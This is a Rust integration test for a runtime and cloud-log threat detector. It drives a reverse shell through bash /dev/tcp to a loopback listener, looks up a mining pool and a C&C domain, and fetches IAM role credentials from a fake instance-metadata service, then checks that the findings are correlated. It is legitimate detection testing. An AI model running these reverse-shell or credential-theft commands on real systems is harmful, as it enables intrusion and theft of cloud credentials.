//! Correlation as a stage of the real `ward-collector serve`: the real agent (`ward-agent run`,
//! eBPF on this kernel) streams over mTLS, its Hello naming the instance a fake IMDS on loopback
//! gives it; Route 53 Resolver and CloudTrail files are dropped into the directories serve
//! watches, so the log findings come from the foundational engine. Results are read through the
//! query API (`POST /v1/findings/list`).
//!
//! 1. A process looks up a mining pool, another a test C&C domain, a third is a reverse shell:
//!    three runtime findings on the instance make one `AttackSequence:EC2/CompromisedInstanceGroup`.
//! 2. A process fetches the role credentials from the fake IMDS (serve is told where it is with
//!    `--correlate-imds`).
//! 3. The collector is killed (SIGKILL) and restarted: what follows needs the correlator's
//!    persisted state (host map, twins, sequence, the credential fetch) and the runtime index
//!    rebuilt from the batch log.
//! 4. The Resolver log of the pool lookup: `CryptoCurrency:EC2/BitcoinTool.B!DNS` from the
//!    foundational engine, attributed to the querying process, stored archived as the duplicate of
//!    the runtime finding (one alert), both linked.
//! 5. CloudTrail: the role session from the instance's own address (nothing), then from an outside
//!    address: `InstanceCredentialExfiltration.OutsideAWS` naming the fetching process and the
//!    call; it is the fourth signal of the sequence, which is updated (same id), not duplicated.
//!
//! Another helper's agent bug (a loopback DNS server's reply reported as a process-less
//! `dns_query`) can add runtime findings without a process; nothing here depends on it either way.

#[path = "transport_common.rs"]
mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::channel;
use std::time::{Duration, Instant};

use common::{CollectorProcess, Pki, TempDir, free_port};
use serde_json::Value;
use ward_collector::findings::time::{format_millis, parse_millis};
use ward_tests::api::all_findings;
use ward_tests::cloud::{
    INSTANCE, PRIVATE_IP, drop_file, fake_imds, instance_role_call, resolver_record,
};

const AGENT: &str = "agent-corr";
const OUTSIDE_IP: &str = "198.51.100.23";
const POOL: &str = "pool.supportxmr.com";

/// `ward-agent run` connected to the collector, its identity from the fake IMDS.
struct RunningAgent(Child);

impl RunningAgent {
    fn start(dir: &Path, pki: &Pki, collector: SocketAddr, imds: SocketAddr) -> RunningAgent {
        let pem = pki.ca.agent(AGENT).unwrap();
        std::fs::write(dir.join("agent.pem"), &pem.cert).unwrap();
        std::fs::write(dir.join("agent-key.pem"), &pem.key).unwrap();
        let mut child = Command::new(ward_tests::workspace_bin("ward-agent"))
            .arg("run")
            .args([
                "--collector",
                &format!("https://localhost:{}", collector.port()),
            ])
            .arg("--ca")
            .arg(dir.join("ca.pem"))
            .arg("--cert")
            .arg(dir.join("agent.pem"))
            .arg("--key")
            .arg(dir.join("agent-key.pem"))
            .args(["--agent-id", AGENT, "--imds", &format!("http://{imds}")])
            .arg("--spool-dir")
            .arg(dir.join("spool"))
            .args(["--batch-delay-ms", "50", "--drain-secs", "3"])
            .args([
                "--types",
                "process_exec,process_fork,process_exit,net_connect,net_stdio_socket,dns_query",
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn ward-agent run");
        let (tx, ready) = channel();
        let stderr = BufReader::new(child.stderr.take().unwrap());
        std::thread::spawn(move || {
            for line in stderr.lines().map_while(Result::ok) {
                eprintln!("[agent] {line}");
                if line.contains("ward-agent: ready") {
                    let _ = tx.send(());
                }
            }
        });
        ready
            .recv_timeout(Duration::from_secs(30))
            .expect("ward-agent run became ready");
        RunningAgent(child)
    }
}

impl Drop for RunningAgent {
    fn drop(&mut self) {
        // SAFETY: kill(2) on our own child.
        unsafe { libc::kill(self.0.id() as i32, libc::SIGINT) };
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if self.0.try_wait().ok().flatten().is_some() {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn collector(dir: &Path, data: &Path, listen: SocketAddr, imds: SocketAddr) -> CollectorProcess {
    let dns = dir.join("logs/dns");
    let trail = dir.join("logs/cloudtrail");
    CollectorProcess::start_with(
        dir,
        data,
        listen,
        &[
            "--api-listen",
            "127.0.0.1:0",
            "--correlate-imds",
            &imds.to_string(),
            "--dns",
            dns.to_str().unwrap(),
            "--cloudtrail",
            trail.to_str().unwrap(),
            "--cloud-poll-secs",
            "0.2",
            "--account-id",
            ward_tests::cloud::ACCOUNT,
        ],
    )
}

fn run_python(code: &str) -> u32 {
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", code])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success(), "python failed: {code}");
    pid
}

/// Polls the API until `pick` finds what it wants in the stored findings.
fn wait_for<T>(
    api: SocketAddr,
    what: &str,
    timeout: Duration,
    pick: impl Fn(&[Value]) -> Option<T>,
) -> T {
    let deadline = Instant::now() + timeout;
    loop {
        let findings = all_findings(api);
        if let Some(t) = pick(&findings) {
            return t;
        }
        if Instant::now() > deadline {
            let summary: Vec<String> = findings
                .iter()
                .map(|f| {
                    format!(
                        "{} {} archived={} pid={}",
                        f["type"],
                        f["id"],
                        f["service"]["archived"],
                        pid_of(f)
                    )
                })
                .collect();
            panic!(
                "timed out waiting for {what}; stored:\n{}",
                summary.join("\n")
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn ward(f: &Value) -> &Value {
    &f["service"]["additionalInfo"]["ward"]
}

fn pid_of(f: &Value) -> Value {
    f["service"]["runtimeDetails"]["process"]["pid"].clone()
}

fn of_type<'a>(findings: &'a [Value], t: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["type"] == t).collect()
}

fn sequence_signals(f: &Value) -> Vec<String> {
    f["service"]["detection"]["sequence"]["signals"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|s| s["uid"].as_str().unwrap_or("").to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn serve_correlates_agent_and_logs_across_a_restart() {
    if !ward_tests::can_load_ebpf("serve_correlates_agent_and_logs_across_a_restart") {
        return;
    }
    let dir = TempDir::new("correlate-serve");
    let pki = Pki::generate();
    pki.write_server_files(dir.path());
    for d in ["logs/dns", "logs/cloudtrail"] {
        std::fs::create_dir_all(dir.path().join(d)).unwrap();
    }
    let data = dir.path().join("data");
    let imds = fake_imds();
    let listen = free_port();
    let serve = collector(dir.path(), &data, listen, imds);
    let api = serve.api.expect("serve printed its API address");
    let agent = RunningAgent::start(dir.path(), &pki, serve.addr, imds);

    // 1. Three runtime findings on the instance.
    let dns = ward_tests::dns_server_once();
    let pool_pid = run_python(&ward_tests::python_dns_query(POOL));
    dns.join().unwrap();
    let dns = ward_tests::dns_server_once();
    let cnc_pid = run_python(&ward_tests::python_dns_query("guarddutyc2activityb.com"));
    dns.join().unwrap();
    let shell_listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let shell_port = shell_listener.local_addr().unwrap().port();
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!(
                "exec bash --norc -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1 # {}",
                ward_tests::marker("correlate-serve")
            ),
        ])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = shell_listener.accept().unwrap();
    conn.write_all(b"exit\n").unwrap();
    let _ = conn.read_to_end(&mut Vec::new());
    shell.wait().unwrap();
    // 2. The role credentials from instance metadata (IMDSv2, as the SDKs fetch them).
    let thief_pid = run_python(&format!(
        "import urllib.request as u\n\
         t=u.urlopen(u.Request('http://{imds}/latest/api/token',method='PUT',headers={{'X-aws-ec2-metadata-token-ttl-seconds':'60'}})).read().decode()\n\
         u.urlopen(u.Request('http://{imds}/latest/meta-data/iam/security-credentials/web-role',headers={{'X-aws-ec2-metadata-token':t}})).read()"
    ));
    let fetched_at = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as i64;

    let runtime_pool = |fs: &[Value]| -> Option<Value> {
        of_type(fs, "CryptoCurrency:Runtime/BitcoinTool.B!DNS")
            .into_iter()
            .find(|f| pid_of(f) == pool_pid)
            .cloned()
    };
    let (pool, cnc, shell_finding, sequence) = wait_for(
        api,
        "three runtime findings and their attack sequence",
        Duration::from_secs(20),
        |fs| {
            let pool = runtime_pool(fs)?;
            let cnc = of_type(fs, "Backdoor:Runtime/C&CActivity.B!DNS")
                .into_iter()
                .find(|f| pid_of(f) == cnc_pid)?
                .clone();
            let shell = of_type(fs, "Execution:Runtime/ReverseShell")
                .into_iter()
                .find(|f| f["service"]["runtimeDetails"]["process"]["name"] == "bash")?
                .clone();
            let seqs = of_type(fs, "AttackSequence:EC2/CompromisedInstanceGroup");
            let seq = seqs.iter().find(|s| {
                let signals = sequence_signals(s);
                [&pool, &cnc, &shell]
                    .iter()
                    .all(|f| signals.contains(&f["id"].as_str().unwrap().to_owned()))
            })?;
            Some((pool, cnc, shell, (*seq).clone()))
        },
    );
    assert_eq!(
        pool["resource"]["instanceDetails"]["instanceId"], INSTANCE,
        "findings are filed under the instance the Hello named"
    );
    assert_eq!(sequence["severity"].as_f64().map(|s| s >= 9.0), Some(true));
    assert_eq!(
        sequence["resource"]["instanceDetails"]["instanceId"], INSTANCE,
        "{sequence}"
    );
    for member in [&pool, &cnc, &shell_finding] {
        assert_eq!(
            member["associatedAttackSequenceArn"], sequence["arn"],
            "member {} names its sequence",
            member["type"]
        );
    }

    // 3. Kill and restart the collector: the rest depends on what it persisted.
    serve.kill();
    let serve = collector(dir.path(), &data, listen, imds);
    let api = serve.api.expect("serve printed its API address");

    // 4. The Resolver's record of the pool lookup.
    let query_time = pool["service"]["eventFirstSeen"].as_str().unwrap();
    let resolver_time = format_millis(parse_millis(query_time).unwrap() + 30);
    drop_file(
        &dir.path().join("logs/dns"),
        "resolver.log",
        &format!("{}\n", resolver_record(POOL, &resolver_time)),
    );
    let twin = wait_for(
        api,
        "the Resolver-log finding",
        Duration::from_secs(20),
        |fs| {
            of_type(fs, "CryptoCurrency:EC2/BitcoinTool.B!DNS")
                .into_iter()
                .find(|f| f["service"]["action"]["dnsRequestAction"]["domain"] == POOL)
                .cloned()
        },
    );
    assert_eq!(twin["resource"]["instanceDetails"]["instanceId"], INSTANCE);
    assert_eq!(
        twin["service"]["archived"], true,
        "one alert, not two: {twin}"
    );
    assert_eq!(
        ward(&twin)["process"]["pid"],
        pool_pid,
        "the log finding names the querying process: {twin}"
    );
    assert_eq!(ward(&twin)["attribution"]["eventType"], "dns_query");
    assert_eq!(pid_of(&twin), pool_pid);
    let runtime_ids: Vec<Value> = of_type(
        &all_findings(api),
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
    )
    .into_iter()
    .map(|f| f["id"].clone())
    .collect();
    assert!(
        runtime_ids.contains(&ward(&twin)["duplicateOf"]),
        "duplicate of a runtime twin: {}",
        ward(&twin)["duplicateOf"]
    );
    let pool_now = wait_for(
        api,
        "the runtime finding linked",
        Duration::from_secs(5),
        |fs| {
            fs.iter()
                .find(|f| f["id"] == pool["id"])
                .filter(|f| {
                    ward(f)["linkedFindingIds"]
                        .as_array()
                        .is_some_and(|l| l.contains(&twin["id"]))
                })
                .cloned()
        },
    );
    assert_eq!(
        pool_now["service"]["archived"], false,
        "the runtime finding is the alert"
    );

    // 5. CloudTrail: the instance's own call, then its session from outside.
    let own = instance_role_call(
        &format_millis(fetched_at + 60_000),
        PRIVATE_IP,
        "GetCallerIdentity",
    );
    let outside = instance_role_call(
        &format_millis(fetched_at + 600_000),
        OUTSIDE_IP,
        "ListUsers",
    );
    drop_file(
        &dir.path().join("logs/cloudtrail"),
        "trail.json",
        &serde_json::json!({ "Records": [
            serde_json::from_str::<Value>(&own).unwrap(),
            serde_json::from_str::<Value>(&outside).unwrap(),
        ]})
        .to_string(),
    );
    let theft = wait_for(
        api,
        "the cross-layer credential finding",
        Duration::from_secs(20),
        |fs| {
            of_type(
                fs,
                "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            )
            .into_iter()
            .find(|f| ward(f)["process"]["pid"] == thief_pid)
            .cloned()
        },
    );
    assert_eq!(ward(&theft)["instanceId"], INSTANCE);
    assert_eq!(ward(&theft)["agentId"], AGENT);
    let calls = ward(&theft)["apiCalls"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        calls
            .iter()
            .any(|c| c["eventName"] == "ListUsers" && c["sourceIp"] == OUTSIDE_IP),
        "{calls:?}"
    );
    assert!(
        !calls.iter().any(|c| c["eventName"] == "GetCallerIdentity"),
        "the instance's own call is not theft: {calls:?}"
    );
    assert!(
        theft["description"]
            .as_str()
            .unwrap()
            .contains(&format!("pid {thief_pid}")),
        "{}",
        theft["description"]
    );

    // The credential finding is the fourth signal: the same sequence, updated.
    let updated = wait_for(api, "the sequence updated", Duration::from_secs(10), |fs| {
        let seqs = of_type(fs, "AttackSequence:EC2/CompromisedInstanceGroup");
        seqs.into_iter()
            .find(|s| sequence_signals(s).contains(&theft["id"].as_str().unwrap().to_owned()))
            .cloned()
    });
    assert_eq!(updated["id"], sequence["id"], "updated, not duplicated");
    assert!(
        updated["service"]["count"].as_u64() > sequence["service"]["count"].as_u64(),
        "{} then {}",
        sequence["service"]["count"],
        updated["service"]["count"]
    );
    let on_instance = of_type(
        &all_findings(api),
        "AttackSequence:EC2/CompromisedInstanceGroup",
    )
    .into_iter()
    .filter(|s| s["resource"]["instanceDetails"]["instanceId"] == INSTANCE)
    .count();
    assert_eq!(on_instance, 1, "one sequence for the instance");
    // It is also a signal of its credential's sequence (with the two calls), whose ARN it names.
    let arns: Vec<Value> = of_type(
        &all_findings(api),
        "AttackSequence:IAM/CompromisedCredentials",
    )
    .into_iter()
    .chain(of_type(
        &all_findings(api),
        "AttackSequence:EC2/CompromisedInstanceGroup",
    ))
    .map(|s| s["arn"].clone())
    .collect();
    assert!(
        arns.contains(&theft["associatedAttackSequenceArn"]),
        "{} not in {arns:?}",
        theft["associatedAttackSequenceArn"]
    );

    drop(agent);
    serve.stop();
}
